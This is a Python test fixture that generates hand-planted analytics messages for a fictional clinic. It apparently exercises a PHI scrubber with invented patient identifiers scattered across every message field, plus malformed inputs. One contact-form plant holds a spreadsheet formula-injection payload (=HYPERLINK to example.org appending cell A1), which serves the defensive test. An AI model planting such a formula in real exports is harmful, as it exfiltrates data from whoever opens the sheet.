"""Segment messages planted by hand: PHI in every place a message has, broken lines, a missing id, a clock in 2041. Values: `canaries.py`."""

import json
from datetime import UTC, datetime, timedelta
from typing import Any

from examples.generator.world import SITE, iso_z

_PHONE_APP = "LarkmereApp/4.2.0 (iPhone; iOS 19.1)"


def messages() -> list[tuple[datetime, dict[str, Any]]]:
    """(received, message) for each plant that is valid JSON."""
    return [_message(n, *plant) for n, plant in enumerate(_plants())]


def _message(
    n: int, at: str, body: dict[str, Any], page: str = "/contact", extra: dict[str, Any] | None = None
) -> tuple[datetime, dict[str, Any]]:
    when = datetime.fromisoformat(at).replace(tzinfo=UTC)
    path, _, query = page.partition("?")
    message = {
        "messageId": f"ajs-next-plant{n:03d}",
        "type": "track",
        "anonymousId": f"7c0ffee0-0000-4000-a000-0000000{n:05d}",
        "timestamp": iso_z(when),
        "sentAt": iso_z(when),
        "receivedAt": iso_z(when + timedelta(milliseconds=120)),
        **body,
        "context": {
            "ip": f"203.0.113.{200 + n % 50}",
            "userAgent": _PHONE_APP if n % 2 else "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            "page": {"path": path, "url": SITE + page, "search": f"?{query}" if query else "", "referrer": "", "title": "Larkmere Health"},
            **(extra or {}),
        },
    }
    if message["messageId"] is None:
        del message["messageId"]
    # The collector's clock is right whatever the client's says; only the message of 2041 was stamped by a broken collector too.
    return min(when, datetime(2026, 10, 4, tzinfo=UTC)), message


def _form(message: str, **properties: Any) -> dict[str, Any]:
    return {"event": "Form Submitted", "properties": {"form": "contact", "message": message, **properties}}


def _plants() -> list[tuple[Any, ...]]:
    return [
        (
            "2026-08-05T15:02:11",
            {
                "type": "identify",
                "userId": "u_plant_quill",
                "traits": {
                    "firstName": "Martha",
                    "lastName": "Quillfeather",
                    "email": "martha.quillfeather@example.net",
                    "phone": "(361) 555-0119",
                    "address": {"street": "4471 Wobblestone Crescent", "city": "Austin", "state": "TX", "postalCode": "78704"},
                    "insurance": "Sunward PPO",
                    "preferredLocation": "austin",
                    "serviceLine": "orthopaedics",
                    "consentEmail": True,
                    "consentSms": False,
                    "dob": "1948-03-29",
                    "memberId": "BLM-77120934-02",
                    "ssn": "219-09-9999",
                    "emergencyContact": {"name": "Barnaby Ottershaw", "relation": "son"},
                },
            },
        ),
        (
            "2026-08-12T18:40:05",
            _form(
                "My name is Leonard Brackenthorpe, DOB 11/23/1951, MRN 00482917. Please call me at 361-555-0142 about my left knee.",
                serviceLine="orthopaedics",
                location="austin",
            ),
        ),
        (
            "2026-08-14T13:20:00",
            {"type": "page", "name": "Appointments", "properties": {"path": "/appointments"}},
            "/appointments?name=Odalys+Fennimorekraut&dob=1963-07-08&email=odalys.kraut%40example.org&utm_source=google",
        ),
        (
            "2026-08-18T20:11:41",
            {"type": "page", "name": "Dermatology", "properties": {"path": "/dermatology"}},
            "/dermatology?utm_source=google&utm_medium=cpc&utm_campaign=derm-fl-search&utm_term=dr+for+rupert+wigglesnade+psoriasis",
            {
                "campaign": {
                    "source": "google",
                    "medium": "cpc",
                    "name": "derm-fl-search",
                    "term": "dr for rupert wigglesnade psoriasis",
                    "content": "for-benedicta-oxentree",
                }
            },
        ),
        (
            "2026-08-20T09:00:30",
            {
                "type": "page",
                "name": "Insurance",
                "properties": {"path": "/insurance", "referrer": "https://portal.example.org/chart/MRN-5530917/results"},
            },
            "/insurance",
        ),
        (
            "2026-08-26T17:45:12",
            {
                "event": "Scheduling Started",
                "properties": {
                    "serviceLine": "dental",
                    "location": "orlando",
                    "payload": json.dumps({"patient": {"name": "Cordelia Umberfield", "phone": "432-555-0161"}, "step": 2}),
                },
            },
            "/appointments",
        ),
        (
            "2026-08-27T16:05:59",
            {
                "event": "Call Completed",
                "properties": {
                    "durationSeconds": 214,
                    "answered": True,
                    "trackingNumber": "(813) 555-0101",
                    "callerNumber": "+13615550177",
                    "location": "tampa",
                    "serviceLine": "dermatology",
                },
            },
        ),
        (
            "2026-09-01T14:14:14",
            {"event": "Pricing Viewed", "properties": {"chart for Ignatius Plumbottom": True, "serviceLine": "dental"}},
            "/pricing",
        ),
        (
            "2026-09-02T19:31:02",
            {
                "type": "page",
                "name": "Home",
                "properties": {"path": "/", "title": "Welcome back, Zebulon Crickmore | Larkmere Health"},
            },
            "/",
            {"ip": "203.0.113.253", "device": {"id": "B5372DB0-C21E-41E4-9DFC-77F0C0FFEE01", "type": "ios"}},
        ),
        (
            "2026-09-03T12:00:07",
            {
                "messageId": "msg-for-hester.dapplewood@example.com",
                "event": "Directions Clicked",
                "anonymousId": "anon-winifred-jollibrook",
                "userId": "thelma.oakenthwaite@example.com",
                "properties": {"location": "pensacola", "serviceLine": "dermatology"},
            },
            "/locations/pensacola",
        ),
        (
            "2026-09-08T15:27:44",
            {
                "event": "Staff Question Asked",
                "properties": {
                    "notes": "Our patient Eustace Pettigroove, seen 02/17/2025, needs a second opinion on his rotator cuff.",
                    "serviceLine": "physician_liaison",
                    "location": "tampa",
                },
            },
            "/for-physicians",
        ),
        (
            "2026-09-10T22:08:19",
            _form(
                "Me llamo Escolástica Villaverdugo, nací el 14 de marzo de 1957 y mi teléfono es 254-555-0133. Quiero una cita para la piel.",
                serviceLine="dermatology",
            ),
        ),
        (
            "2026-09-15T10:10:10",
            {"type": "page", "name": "Chart", "properties": {"path": "/patient/Araminta-Snodberry"}},
            "/patient/Araminta-Snodberry",
        ),
        (
            "2026-09-17T11:59:01",
            _form(
                "Picture attached, is this normal a week after?",
                serviceLine="orthopaedics",
                attachments=["scan_Lucasta_Wimblecrag_knee.jpg"],
            ),
        ),
        (
            "2026-09-22T08:30:00",
            {"event": "Portal Message Opened", "properties": {"subject": "Your MRI result, Fitzgibbon Larrowbee", "read": True}},
        ),
        (
            "2026-09-23T08:31:00",
            _form('=HYPERLINK("https://example.org/?q="&A1,"price list") Do you take Bluestem?', serviceLine="dental"),
        ),
        (
            "2026-09-24T21:12:13",
            {"type": "screen", "name": "Find a location", "properties": {"name": "Find a location"}},
            "/locations/el-paso",
        ),
        ("2026-09-24T21:13:40", {"messageId": None, "event": "Pricing Viewed", "properties": {"serviceLine": "dental"}}, "/pricing"),
        (
            "2026-09-25T07:07:07",
            {"event": "Appointment Requested", "timestamp": "yesterday at noon", "properties": {"serviceLine": "dental"}},
        ),
        ("2041-01-01T00:00:00", {"event": "Callback Requested", "properties": {"serviceLine": "orthopaedics"}}),
    ]


BROKEN_LINES = (
    '{"messageId": "ajs-next-cut01", "type": "identify", "traits": {"firstName": "Philomena", "lastName": "Gastrellow", "email": "p',
    "<html><body>502 Bad Gateway</body></html>",
    '["not", "an", "object"]',
)
